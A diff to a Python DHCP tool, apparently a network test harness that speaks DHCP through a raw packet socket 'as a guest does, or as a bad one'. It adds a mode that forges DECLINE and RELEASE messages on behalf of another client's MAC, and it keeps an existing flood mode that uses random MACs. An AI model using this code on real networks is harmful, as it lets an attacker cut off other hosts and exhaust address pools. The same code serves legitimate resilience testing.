@@ -1,5 +1,5 @@
 #!/usr/bin/python3
-"""dhcp.py INTERFACE MAC lease | flood N: speaks DHCP as a guest does, or as a bad one; Ethernet frames by a packet socket."""
+"""dhcp.py INTERFACE MAC lease | flood N | decline MAC,ADDRESS,SERVER: speaks DHCP as a guest does, or as a bad one; Ethernet frames by a packet socket."""
 import os
 import random
 import socket
@@ -53,6 +53,12 @@ def lease():
 
 if verb == 'lease':
     print(lease() or 'no answer')
+elif verb == 'decline':
+    whose, address, server = arg.split(',')
+    options = b'\x32\x04' + socket.inet_aton(address) + b'\x36\x04' + socket.inet_aton(server)
+    for kind in (4, 7) * 3:     # DECLINE, RELEASE
+        s.send(frame(kind, bytes.fromhex(whose.replace(':', '')), random.getrandbits(32), options))
+        time.sleep(0.2)
 else:
     for i in range(int(arg)):
         chaddr = own if i % 3 == 0 else os.urandom(6)
